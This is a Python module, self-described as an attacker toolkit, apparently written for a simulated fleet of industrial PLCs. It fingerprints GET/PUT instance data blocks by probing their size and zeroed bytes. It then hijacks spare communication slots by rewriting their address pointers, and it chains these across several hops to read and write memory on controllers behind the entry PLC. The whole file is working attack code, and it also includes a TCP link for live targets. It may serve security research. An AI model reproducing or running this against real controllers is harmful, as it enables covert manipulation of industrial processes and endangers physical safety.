"""Attacker toolkit: fingerprint PUT/GET instance DBs, hijack spare slots, pivot.

Every operation works against a *memory access* object.  ``DirectAccess``
talks to the entry PLC over the session's link; ``PivotAccess`` reaches the
peer of a hop by borrowing that hop's GET (reads) and PUT (writes) through
the access one level down.  Stacking them gives multi-hop reads and writes
built from nothing but read/write requests.
"""

from __future__ import annotations

import socket
import struct
import time
from dataclasses import dataclass, field
from typing import Optional, Protocol, Union

from .codec import (
    POINTER_SIZE,
    UNUSED,
    AddressItem,
    AnyPointer,
    AreaError,
    ElemType,
    FrameError,
    InvalidPointer,
    MessageKind,
    ProtocolMessage,
    ReturnCode,
    decode_any_pointer,
    decode_pdu,
    encode_any_pointer,
    encode_pdu,
)
from .fabric import ATTACKER, US, Simulation
from .plc import (
    ADDR_BASE,
    FLAGS_OFFSET,
    GET_DB_SIZE,
    PUT_DB_SIZE,
    SLOTS,
    STATUS_OFFSET,
    WORK_BASE,
    FbKind,
    addr_offset,
    local_offset,
    status_return_code,
)

OTHER = "OTHER"

# Unused offsets checked during fingerprinting; negative values count from the end.
DEFAULT_PROBE_OFFSETS = (1, 5, *range(WORK_BASE, WORK_BASE + 8), -4, -3, -2, -1)
# Scratch stays clear of the probe set so a touched DB still fingerprints cleanly.
SCRATCH_START = WORK_BASE + 8
SCRATCH_TAIL = 4

MAX_DB_SIZE = 65536
_MAX_SEQUENCE = 0xFFFE


class SessionError(Exception):
    pass


class UnreachableError(SessionError):
    pass


class ProtocolViolation(SessionError):
    pass


class ProbeLimitError(SessionError):
    pass


class SlotBusyError(SessionError):
    pass


class ScratchExhausted(SessionError):
    pass


class VerificationError(SessionError):
    pass


class ChainCapabilityError(SessionError):
    def __init__(self, hop: int, plc: str, reason: str):
        super().__init__(f"hop {hop} ({plc}): {reason}")
        self.hop = hop
        self.plc = plc


class AwaitTimeout(SessionError):
    def __init__(self, hop: int, db: int):
        super().__init__(f"hop {hop}: DB{db} did not execute before timeout")
        self.hop = hop
        self.db = db


class TransferFailed(SessionError):
    def __init__(self, hop: int, db: int, status: int):
        super().__init__(f"hop {hop}: DB{db} transfer failed with STATUS 0x{status:04X}")
        self.hop = hop
        self.db = db
        self.status = status


# --------------------------------------------------------------------------
# links


class Link(Protocol):
    def exchange(self, frame: bytes) -> bytes: ...
    def now(self) -> int: ...
    def sleep(self, duration: int) -> None: ...


class SimLink:
    """Attacker link into a simulated fleet; the simulation clock is the session clock."""

    def __init__(self, sim: Simulation, target: str):
        self.sim = sim
        self.target = target

    def exchange(self, frame: bytes) -> bytes:
        result = self.sim.exchange(ATTACKER, self.target, frame)
        if result.unreachable:
            raise UnreachableError(f"{self.target} is unreachable from {ATTACKER}")
        return result.response

    def now(self) -> int:
        return self.sim.now

    def sleep(self, duration: int) -> None:
        self.sim.advance(duration)


class TcpLink:
    """Attacker link to a fleet running in realtime mode."""

    def __init__(self, host: str, port: int, timeout: float = 5.0):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self._t0 = time.monotonic()

    def exchange(self, frame: bytes) -> bytes:
        try:
            self.sock.sendall(frame)
            head = self._recv(2)
            return head + self._recv(struct.unpack(">H", head)[0])
        except OSError as exc:
            raise UnreachableError(str(exc)) from None

    def _recv(self, n: int) -> bytes:
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise UnreachableError("connection closed")
            buf += chunk
        return buf

    def now(self) -> int:
        return int((time.monotonic() - self._t0) * US)

    def sleep(self, duration: int) -> None:
        time.sleep(duration / US)

    def close(self) -> None:
        self.sock.close()


# --------------------------------------------------------------------------
# results


@dataclass
class DbFingerprint:
    db_number: int
    size_bytes: Optional[int]
    classification: str  # "GET" | "PUT" | "OTHER"
    evidence: list = field(default_factory=list)  # [(offset, value)]
    decoded_slots: tuple = ()  # ADDR_1..ADDR_4
    decoded_locals: tuple = ()  # RD/SD_1..4

    @property
    def kind(self) -> Optional[FbKind]:
        return FbKind(self.classification) if self.classification != OTHER else None


@dataclass(frozen=True)
class SlotUsage:
    kind: FbKind
    addr: tuple
    local: tuple

    @property
    def spare(self) -> frozenset:
        return frozenset(
            s for s in SLOTS if self.addr[s - 1] is UNUSED and self.local[s - 1] is UNUSED
        )


@dataclass(frozen=True)
class ExecutionObservation:
    pulses: int
    last_status: Optional[int]
    timed_out: bool = False
    elapsed: int = 0


@dataclass(frozen=True)
class LogEntry:
    time: int
    request: ProtocolMessage
    response: Optional[ProtocolMessage]


# --------------------------------------------------------------------------
# pivot chains


class ScratchAllocator:
    """First-fit allocator over a byte range of an instance DB's work area."""

    def __init__(self, start: int, end: int):
        self.start = start
        self.end = end
        self._used: dict[int, int] = {}

    def alloc(self, n: int) -> int:
        pos = self.start
        for off, size in sorted(self._used.items()):
            if off - pos >= n:
                break
            pos = max(pos, off + size)
        if pos + n > self.end:
            raise ScratchExhausted(f"no {n}-byte scratch region in [{self.start}, {self.end})")
        self._used[pos] = n
        return pos

    def free(self, offset: int) -> None:
        self._used.pop(offset, None)


@dataclass
class Hop:
    plc: str
    get_db: Optional[int] = None
    put_db: Optional[int] = None
    get_size: int = GET_DB_SIZE
    put_size: int = PUT_DB_SIZE

    def db_for(self, kind: FbKind) -> Optional[int]:
        return self.get_db if kind is FbKind.GET else self.put_db

    def size_for(self, kind: FbKind) -> int:
        return self.get_size if kind is FbKind.GET else self.put_size


@dataclass(eq=False)
class PivotChain:
    hops: list
    scratch: dict = field(default_factory=dict)  # (hop index, db) -> ScratchAllocator

    def __post_init__(self) -> None:
        self.hops = [h if isinstance(h, Hop) else Hop(**h) for h in self.hops]
        if not self.hops:
            raise ValueError("a pivot chain needs at least one hop")

    def allocator(self, index: int, kind: FbKind) -> ScratchAllocator:
        hop = self.hops[index]
        key = (index, hop.db_for(kind))
        if key not in self.scratch:
            self.scratch[key] = ScratchAllocator(SCRATCH_START, hop.size_for(kind) - SCRATCH_TAIL)
        return self.scratch[key]

    def require(self, *, write: bool) -> None:
        """Check FB availability along the chain before any traffic is sent."""
        last = len(self.hops) - 1
        for i, hop in enumerate(self.hops):
            need = []
            if i < last:
                need = [FbKind.GET, FbKind.PUT]
            else:
                need = [FbKind.PUT] if write else [FbKind.GET]
            for kind in need:
                if hop.db_for(kind) is None:
                    raise ChainCapabilityError(i, hop.plc, f"no {kind.value} FB")


# --------------------------------------------------------------------------
# memory access


class DirectAccess:
    """Reads and writes on the entry PLC."""

    depth = 0
    max_items = 128

    def __init__(self, session: "AttackSession"):
        self.session = session

    def read_many(self, items: list) -> list:
        out: list = []
        for i in range(0, len(items), self.max_items):
            chunk = items[i : i + self.max_items]
            for res in self.session.read_items(chunk):
                out.append(res.data if res.ok else AreaError(res.code))
        return out

    def read(self, db: int, start: int, length: int) -> bytes:
        (res,) = self.session.read_items([AddressItem(db, start, length)])
        if not res.ok:
            raise AreaError(res.code, f"DB{db}.DBB{start}")
        return res.data

    def read_pointer(self, p: AnyPointer) -> bytes:
        (res,) = self.session.read_items([AddressItem.for_pointer(p)])
        if not res.ok:
            raise AreaError(res.code, str(p))
        return res.data

    def write(self, db: int, start: int, data: bytes) -> None:
        if not data:
            return
        (res,) = self.session.write_items([AddressItem(db, start, len(data), data=data)])
        if not res.ok:
            raise AreaError(res.code, f"DB{db}.DBB{start}")

    def write_pointer(self, p: AnyPointer, data: bytes) -> None:
        (res,) = self.session.write_items([AddressItem.for_pointer(p, data)])
        if not res.ok:
            raise AreaError(res.code, str(p))

    def await_execution(self, db: int, timeout: int) -> ExecutionObservation:
        """Poll REQ until a full 0 -> 1 -> 0 pulse is seen.

        The leading 0 must be observed after the call starts, so the pulse
        belongs to a transfer that began after any prior configuration.
        """
        s = self.session
        items = [AddressItem(db, 0, 1, 0, True), AddressItem(db, STATUS_OFFSET, 2)]
        start = s.now()
        seen_low = high = False
        while True:
            req_res, status_res = s.read_items(items)
            if not req_res.ok:
                raise AreaError(req_res.code, f"DB{db} REQ")
            req = req_res.data[0]
            if high and not req:
                status = struct.unpack(">H", status_res.data)[0]
                return ExecutionObservation(1, status, False, s.now() - start)
            if req and seen_low:
                high = True
            elif not req:
                seen_low = True
            if s.now() - start >= timeout:
                return ExecutionObservation(0, None, True, s.now() - start)
            s.sleep(s.poll_interval)


class PivotAccess:
    """Memory of the peer behind ``hop``, reached through ``via`` (the hop's own memory)."""

    max_items = 1

    def __init__(self, session: "AttackSession", chain: PivotChain, index: int, via):
        self.session = session
        self.chain = chain
        self.index = index
        self.hop: Hop = chain.hops[index]
        self.via = via
        self.depth = via.depth + 1
        self._claimed: dict[FbKind, int] = {}

    def _db(self, kind: FbKind) -> int:
        db = self.hop.db_for(kind)
        if db is None:
            raise ChainCapabilityError(self.index, self.hop.plc, f"no {kind.value} FB")
        return db

    def _claim(self, kind: FbKind) -> int:
        if kind not in self._claimed:
            usage = read_slot_usage(self.session, self._db(kind), kind, via=self.via)
            if not usage.spare:
                raise ChainCapabilityError(
                    self.index, self.hop.plc, f"{kind.value} DB{self._db(kind)} has no spare slot"
                )
            self._claimed[kind] = min(usage.spare)
        return self._claimed[kind]

    def _check(self, db: int, obs: ExecutionObservation) -> None:
        if obs.timed_out:
            raise AwaitTimeout(self.index, db)
        if obs.last_status:
            code = status_return_code(obs.last_status)
            if code is not None:
                raise AreaError(code, f"via hop {self.index} ({self.hop.plc})")
            raise TransferFailed(self.index, db, obs.last_status)

    def _hijack(self, kind: FbKind, remote: AnyPointer, payload: Optional[bytes]) -> bytes:
        db = self._db(kind)
        slot = self._claim(kind)
        alloc = self.chain.allocator(self.index, kind)
        offset = alloc.alloc(remote.total_bytes)
        local = AnyPointer(db, offset, 0, remote.elem_type, remote.count)
        s = self.session
        try:
            configure_slot(s, db, kind, slot, remote, local, payload, override=True, via=self.via)
            self._check(db, self.via.await_execution(db, s.await_timeout))
            data = collect_result(s, local, via=self.via) if kind is FbKind.GET else b""
        except BaseException:
            try:
                reset_slot(s, db, kind, slot, via=self.via)
            except (SessionError, AreaError):
                pass
            raise
        finally:
            alloc.free(offset)
        reset_slot(s, db, kind, slot, via=self.via)
        return data

    def read_pointer(self, p: AnyPointer) -> bytes:
        data = self._hijack(FbKind.GET, p, None)
        if p.is_bit:
            return bytes([data[0] & 1])
        return data

    def write_pointer(self, p: AnyPointer, data: bytes) -> None:
        self._hijack(FbKind.PUT, p, data)

    def read(self, db: int, start: int, length: int) -> bytes:
        return self.read_pointer(AnyPointer(db, start, 0, ElemType.BYTE, length))

    def read_many(self, items: list) -> list:
        out = []
        for it in items:
            try:
                if it.bit:
                    out.append(self.read_pointer(AnyPointer(it.db_number, it.start_byte, it.start_bit, ElemType.BIT, 1)))
                else:
                    out.append(self.read(it.db_number, it.start_byte, it.length_bytes))
            except AreaError as exc:
                out.append(exc)
        return out

    def write(self, db: int, start: int, data: bytes) -> None:
        if data:
            self.write_pointer(AnyPointer(db, start, 0, ElemType.BYTE, len(data)), data)

    def await_execution(self, db: int, timeout: int) -> ExecutionObservation:
        """Wait for a transfer of the FB at ``db`` that started after this call.

        REQ pulses are too short to catch through a pivot, so completion is
        detected from the FLAGS byte instead.  After clearing it, the first
        completion may belong to a transfer that was already in flight, unless
        a snapshot showed REQ=0 and FLAGS=0 in between.  Otherwise FLAGS is
        cleared once more: the next completion then belongs to a transfer
        that started after the first one ended.
        """
        s = self.session
        start = s.now()
        self.write(db, FLAGS_OFFSET, b"\x00")
        fresh = False
        while True:
            head = self.read(db, 0, 8)
            req, flags = head[0] & 1, head[FLAGS_OFFSET]
            if flags:
                if fresh:
                    status = struct.unpack_from(">H", head, STATUS_OFFSET)[0]
                    return ExecutionObservation(1, status, False, s.now() - start)
                self.write(db, FLAGS_OFFSET, b"\x00")
                fresh = True
            elif not req:
                fresh = True
            if s.now() - start >= timeout:
                return ExecutionObservation(0, None, True, s.now() - start)
            s.sleep(s.poll_interval)


Access = Union[DirectAccess, PivotAccess]


# --------------------------------------------------------------------------
# session


class AttackSession:
    """One attacker session over one entry link.  Only read and write requests exist here."""

    def __init__(
        self,
        link: Link,
        *,
        poll_interval: int = 2_000,
        await_timeout: int = 120 * US,
        probe_offsets=DEFAULT_PROBE_OFFSETS,
        known_sizes: Optional[dict] = None,
    ):
        self.link = link
        self.poll_interval = poll_interval
        self.await_timeout = await_timeout
        self.probe_offsets = tuple(probe_offsets)
        self.known_sizes = dict(known_sizes or {GET_DB_SIZE: FbKind.GET, PUT_DB_SIZE: FbKind.PUT})
        self.request_log: list[LogEntry] = []
        self.direct = DirectAccess(self)
        self._sequence = 0
        self._pivots: dict = {}

    @classmethod
    def attach(cls, sim: Simulation, plc_id: str, **kwargs) -> "AttackSession":
        return cls(SimLink(sim, plc_id), **kwargs)

    def now(self) -> int:
        return self.link.now()

    def sleep(self, duration: int) -> None:
        self.link.sleep(duration)

    def _next_sequence(self) -> int:
        self._sequence = self._sequence % _MAX_SEQUENCE + 1
        return self._sequence

    def _request(self, kind: MessageKind, items: list) -> tuple:
        # The toolkit's whole vocabulary: read and write requests.
        if kind not in (MessageKind.READ_REQUEST, MessageKind.WRITE_REQUEST):
            raise ValueError(f"sessions only send read/write requests, not {kind.name}")
        msg = ProtocolMessage(kind, self._next_sequence(), tuple(items))
        t = self.now()
        try:
            raw = self.link.exchange(encode_pdu(msg))
        except UnreachableError:
            self.request_log.append(LogEntry(t, msg, None))
            raise
        try:
            resp = decode_pdu(raw)
        except FrameError as exc:
            raise ProtocolViolation(f"undecodable response: {exc}") from None
        self.request_log.append(LogEntry(t, msg, resp))
        if (
            resp.is_protocol_error
            or resp.kind is not kind.response_kind
            or resp.sequence != msg.sequence
            or len(resp.items) != len(items)
        ):
            raise ProtocolViolation(f"bad response to seq {msg.sequence}: {resp.kind.name}/{len(resp.items)} items")
        return resp.items

    def read_items(self, items: list) -> tuple:
        return self._request(MessageKind.READ_REQUEST, items)

    def write_items(self, items: list) -> tuple:
        return self._request(MessageKind.WRITE_REQUEST, items)

    def pivot(self, chain: PivotChain, depth: Optional[int] = None) -> Access:
        """Access to the memory of the PLC ``depth`` hops past the entry (default: the chain's far end)."""
        depth = len(chain.hops) if depth is None else depth
        if depth == 0:
            return self.direct
        key = (chain, depth)
        if key not in self._pivots:
            self._pivots[key] = PivotAccess(self, chain, depth - 1, self.pivot(chain, depth - 1))
        return self._pivots[key]


# --------------------------------------------------------------------------
# operations


def _classify(result) -> Optional[bool]:
    """True: byte exists; False: past the end; None: DB absent."""
    if isinstance(result, AreaError):
        if result.code is ReturnCode.ADDRESS_OUT_OF_RANGE:
            return False
        if result.code is ReturnCode.OBJECT_DOES_NOT_EXIST:
            return None
        raise result
    return True


def probe_db_size(session: AttackSession, db_number: int, max_size: int = MAX_DB_SIZE, *, via=None) -> Optional[int]:
    """Size of a DB as seen by single-byte reads.

    Equivalent to reading byte 0, 1, 2, ... until the first out-of-range
    reply, but uses galloping then k-ary search, batched into multi-item
    requests where the access allows.
    """
    if max_size < 1:
        raise ValueError("max_size must be >= 1")
    acc = via or session.direct
    width = acc.max_items

    def check(offsets: list) -> list:
        return [_classify(r) for r in acc.read_many([AddressItem(db_number, o, 1) for o in offsets])]

    first = check([0])[0]
    if first is None:
        return None
    if first is False:
        return 0
    lo, hi = 0, None
    ladder = [1 << k for k in range(max_size.bit_length() + 1) if (1 << k) < max_size] + [max_size]
    for i in range(0, len(ladder), width):
        chunk = ladder[i : i + width]
        for off, ok in zip(chunk, check(chunk)):
            if ok is None:
                raise SessionError(f"DB{db_number} vanished during probing")
            if ok:
                lo = off
            else:
                hi = off
                break
        if hi is not None:
            break
    if hi is None:
        raise ProbeLimitError(f"DB{db_number} extends past {max_size} bytes")
    while hi - lo > 1:
        gap = hi - lo
        offs = sorted({lo + gap * k // (width + 1) for k in range(1, width + 1)} - {lo, hi})
        if not offs:
            offs = [lo + gap // 2]
        for off, ok in zip(offs, check(offs)):
            if ok:
                lo = off
            else:
                hi = off
                break
    return hi


def _probe_runs(offsets, size: int) -> list:
    resolved = sorted({o + size if o < 0 else o for o in offsets} & set(range(size)))
    runs = []
    for o in resolved:
        if runs and runs[-1][0] + runs[-1][1] == o:
            runs[-1][1] += 1
        else:
            runs.append([o, 1])
    return runs


def _decode_slots(raw: bytes) -> tuple:
    addr = tuple(decode_any_pointer(raw[i * POINTER_SIZE : (i + 1) * POINTER_SIZE]) for i in range(4))
    local = tuple(decode_any_pointer(raw[(4 + i) * POINTER_SIZE : (5 + i) * POINTER_SIZE]) for i in range(4))
    return addr, local


def fingerprint_db(
    session: AttackSession,
    db_number: int,
    *,
    via=None,
    probe_offsets=None,
    validate_pointers: bool = True,
) -> DbFingerprint:
    """Classify a DB as a GET or PUT instance using reads only.

    Size must match a known instance size, every probed unused byte must
    read zero, and (optionally) every populated ADDR must decode.
    """
    acc = via or session.direct
    size = probe_db_size(session, db_number, via=acc)
    fp = DbFingerprint(db_number, size, OTHER)
    if size is None or size not in session.known_sizes:
        return fp
    kind = session.known_sizes[size]
    runs = _probe_runs(session.probe_offsets if probe_offsets is None else probe_offsets, size)
    results = acc.read_many([AddressItem(db_number, o, n) for o, n in runs])
    for (o, n), data in zip(runs, results):
        if isinstance(data, AreaError):
            return fp
        fp.evidence.extend((o + i, b) for i, b in enumerate(data))
    if any(v for _, v in fp.evidence):
        return fp
    if validate_pointers and size >= ADDR_BASE + 8 * POINTER_SIZE:
        fp.decoded_slots, fp.decoded_locals = _decode_slots(acc.read(db_number, ADDR_BASE, 8 * POINTER_SIZE))
        if any(isinstance(p, InvalidPointer) for p in fp.decoded_slots):
            return fp
    fp.classification = kind.value
    return fp


def read_slot_usage(session: AttackSession, db_number: int, kind: FbKind, *, via=None) -> SlotUsage:
    acc = via or session.direct
    addr, local = _decode_slots(acc.read(db_number, ADDR_BASE, 8 * POINTER_SIZE))
    return SlotUsage(FbKind(kind), addr, local)


def configure_slot(
    session: AttackSession,
    db_number: int,
    kind: FbKind,
    slot: int,
    remote_ptr: AnyPointer,
    local_ptr: AnyPointer,
    value: Optional[bytes] = None,
    *,
    override: bool = False,
    via=None,
) -> None:
    """Point a spare slot at ``remote_ptr``.

    Writes go destination first (GET: RD then ADDR; PUT: payload, SD, ADDR)
    so a scan firing mid-configuration never sees ADDR without its partner.
    """
    kind = FbKind(kind)
    if slot not in SLOTS:
        raise ValueError(f"slot must be 1-4, got {slot}")
    acc = via or session.direct
    if value is not None:
        if kind is FbKind.GET:
            raise ValueError("GET slots take no payload")
        if len(value) != local_ptr.total_bytes:
            raise ValueError(f"payload is {len(value)} bytes, {local_ptr} holds {local_ptr.total_bytes}")
    if not override:
        usage = read_slot_usage(session, db_number, kind, via=acc)
        if slot not in usage.spare:
            raise SlotBusyError(f"DB{db_number} slot {slot} is in use")
    if value is not None:
        acc.write_pointer(local_ptr, value)
    acc.write(db_number, local_offset(slot), encode_any_pointer(local_ptr))
    acc.write(db_number, addr_offset(slot), encode_any_pointer(remote_ptr))


def await_execution(
    session: AttackSession,
    db_number: int,
    timeout: Optional[int] = None,
    *,
    via=None,
    trigger_interval: Optional[int] = None,
) -> ExecutionObservation:
    if trigger_interval is not None and session.poll_interval >= trigger_interval:
        raise ValueError("poll_interval must be shorter than the FB trigger interval")
    acc = via or session.direct
    return acc.await_execution(db_number, session.await_timeout if timeout is None else timeout)


def collect_result(session: AttackSession, local_ptr: AnyPointer, *, via=None) -> bytes:
    return (via or session.direct).read_pointer(local_ptr)


def reset_slot(session: AttackSession, db_number: int, kind: FbKind, slot: int, *, via=None) -> None:
    """Zero ADDR first, then RD/SD, so no transfer runs with a dangling destination."""
    if slot not in SLOTS:
        raise ValueError(f"slot must be 1-4, got {slot}")
    acc = via or session.direct
    acc.write(db_number, addr_offset(slot), bytes(POINTER_SIZE))
    acc.write(db_number, local_offset(slot), bytes(POINTER_SIZE))


def remote_read(session: AttackSession, chain: PivotChain, target_ptr: AnyPointer) -> bytes:
    """Bytes at ``target_ptr`` on the PLC behind the chain's last hop."""
    chain.require(write=False)
    return session.pivot(chain).read_pointer(target_ptr)


def remote_write(
    session: AttackSession,
    chain: PivotChain,
    target_ptr: AnyPointer,
    data: bytes,
    *,
    verify: bool = True,
) -> None:
    if not data:
        return
    if len(data) != target_ptr.total_bytes:
        raise ValueError(f"data is {len(data)} bytes, {target_ptr} holds {target_ptr.total_bytes}")
    chain.require(write=True)
    session.pivot(chain).write_pointer(target_ptr, data)
    if verify and chain.hops[-1].get_db is not None:
        back = remote_read(session, chain, target_ptr)
        expect = bytes([data[0] & 1]) if target_ptr.is_bit else data
        if back != expect:
            raise VerificationError(f"{target_ptr}: wrote {expect.hex()}, read back {back.hex()}")
